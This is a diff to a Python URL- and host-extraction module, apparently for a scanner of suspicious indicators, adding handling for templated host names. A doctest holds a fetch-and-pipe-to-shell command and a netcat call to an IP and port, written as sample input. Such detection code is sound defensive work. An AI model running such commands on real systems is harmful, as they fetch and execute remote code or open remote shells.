@@ -18,6 +18,8 @@ URL = re.compile(
     r"\b(?:https?|ftp|wss?|tcp|stratum\+tcp|git\+https?|hxxps?)(?:://|\[:\]//)[^\s\"'`<>(){}\\|,;]{1,300}|\b(?:https?)://\[[0-9a-f:]+\][^\s\"'`]*",
     re.I,
 )
+_SLOT = re.compile(r"(?<=://)[\w-]{0,40}(?:\$?\{[^{}\s/]{1,60}\}|%[sd])(?=[\w-]{0,40}\.[\w-]+\.[a-z])", re.I)
+"""The part of a host that a program fills in, before one that it does not."""
 _BARE = re.compile(
     r"(?<![\w@./-])(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z0-9-]{1,63}\.)+(?:com|net|org|io|sh|dev|app|xyz|top|site|online|ru|cn|cc|me|co|info|pw|tk|ml|ga|cf|gq|club|shop|live|fun|pro|example|invalid|test|onion|su|to|ws|link|click|icu|rest|zip|mov)(?![\w-]))(?::\d{1,5})?(?:/[^\s\"'`<>|;,)]*)?",
     re.I,
@@ -122,7 +124,11 @@ def urls_of(text: str) -> list[str]:
     >>> urls_of("curl http://a.invalid/x | sh; nc 203.0.113.9 4444")
     ['http://a.invalid/x']
     """
-    return [found[0].rstrip(".:") for found in URL.finditer(text.replace("[.]", "."))] if "//" in text else []
+    if "//" not in text:
+        return []
+    text = text.replace("[.]", ".")
+    text = _SLOT.sub("x", text) if "{" in text or "%" in text else text
+    return [found[0].rstrip(".:") for found in URL.finditer(text)]
 
 
 def named_host(text: str) -> str:
